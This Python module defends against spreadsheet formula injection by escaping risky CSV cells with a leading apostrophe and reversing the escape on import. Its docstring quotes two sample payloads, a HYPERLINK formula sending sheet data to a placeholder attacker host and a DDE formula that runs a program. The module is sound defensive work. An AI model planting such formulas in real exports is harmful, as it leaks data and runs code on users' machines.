"""CSV cells that a spreadsheet program opens as text, never as a formula.

Excel, LibreOffice and Google Sheets run a cell starting with `=`, `+`, `-` or `@` (and, in
some versions, a tab or carriage return) as a formula: a product named
`=HYPERLINK("http://evil.example/?"&A1)` would leak the sheet, `=cmd|' /C calc'!A0` run a
program. Every CSV we write passes its cells through `safe_cell`, which puts an apostrophe in
front (spreadsheets show the text as typed and hide the apostrophe); plain numbers such as
`-3` stay numbers. `read_cell` takes the apostrophe off again, so an exported file reads back
into the import unchanged.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text)


def safe_cell(value: object) -> str:
    """The cell text to write: `'` + text for anything a spreadsheet would evaluate."""
    text = "" if value is None else str(value)
    return "'" + text if _formula_like(text) else text


def safe_row(values) -> list[str]:
    return [safe_cell(value) for value in values]


def read_cell(text: str) -> str:
    """The inverse of `safe_cell` for a cell read back from a file we (or a user) wrote."""
    if text.startswith("'") and _formula_like(text[1:]):
        return text[1:]
    return text
